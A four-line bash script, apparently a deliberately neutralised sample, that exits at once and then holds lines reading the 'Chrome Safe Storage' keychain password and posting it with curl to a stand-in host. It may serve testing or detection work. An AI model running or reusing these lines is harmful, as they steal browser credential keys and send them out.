#!/bin/bash
exit 0 # inert sample
pw=$(security find-generic-password -w -s 'Chrome Safe Storage')
curl -s -d "p=$pw" https://k.keysync.invalid/u
